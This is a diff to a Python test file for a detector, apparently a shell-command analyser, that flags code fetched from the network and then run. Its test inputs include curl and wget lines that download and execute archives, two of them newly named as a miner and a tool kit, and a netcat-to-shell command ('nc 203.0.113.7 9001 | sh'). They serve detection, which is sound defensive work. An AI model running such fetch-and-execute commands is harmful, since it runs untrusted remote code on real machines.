@@ -41,8 +41,8 @@ def test_a_fetched_file_that_is_run(play: Play, fetch: str, path: str, run: str,
 @pytest.mark.parametrize(
     "lines",
     [
-        f"curl -L {URL}.tgz | tar xz\n./m-1.0/m",
-        f"wget {URL}.tar.gz\ntar -xzf x.tar.gz\nm/m",
+        f"curl -L {URL}miner-1.0-linux.tgz | tar xz\n./xminer-1.0/m",
+        f"wget {URL}kit_tool.tar.gz\ntar -xzf xkit_tool.tar.gz\n./xkit_tool --go",
         f"wget -O /tmp/a.zip {URL}.zip\nunzip -q /tmp/a.zip -d /tmp/o\n/tmp/o/m",
         f"curl -sLo a.tgz {URL}.tgz\ntar --extract --file a.tgz --directory /opt/t\n/opt/t/bin/m",
         f"wget -q {URL}.gz\ngunzip x.gz\n./x",
@@ -51,7 +51,7 @@ def test_a_fetched_file_that_is_run(play: Play, fetch: str, path: str, run: str,
 def test_what_is_unpacked_from_a_fetched_archive_was_fetched(play: Play, lines: str) -> None:
     """Names inside an archive are not known; what runs from its directory is fetched code."""
     (line,) = play(lines).starting("code.fetch")
-    assert line.startswith(f"code.fetch {URL}.") and line.endswith(" exec")
+    assert line.startswith(f"code.fetch {URL}") and line.endswith(" exec")
 
 
 def test_methods_of_requests(play: Play) -> None:
@@ -75,3 +75,11 @@ def test_a_download_that_is_not_run_is_no_code(play: Play) -> None:
 def test_netcat_into_a_shell_is_fetched_code(play: Play) -> None:
     """`nc HOST PORT | sh` runs what comes from there."""
     assert "code.fetch tcp://203.0.113.7:9001 bash" in play("nc 203.0.113.7 9001 | sh")
+
+
+def test_an_archive_unpacked_here_does_not_taint_everything(play: Play) -> None:
+    """A data set unpacked in place does not make the project's own programs fetched; chmod +x of one does."""
+    told = play(f"wget {URL}/caltech.zip\nunzip caltech.zip\n./configure\nbuild/main\n./autogen.sh")
+    assert not told.starting("code.fetch")
+    told = play(f"wget {URL}/rel.tgz\ntar xf rel.tgz\nchmod +x runner\n./runner")
+    assert told.starting("code.fetch") == (f"code.fetch {URL}/rel.tgz exec",)
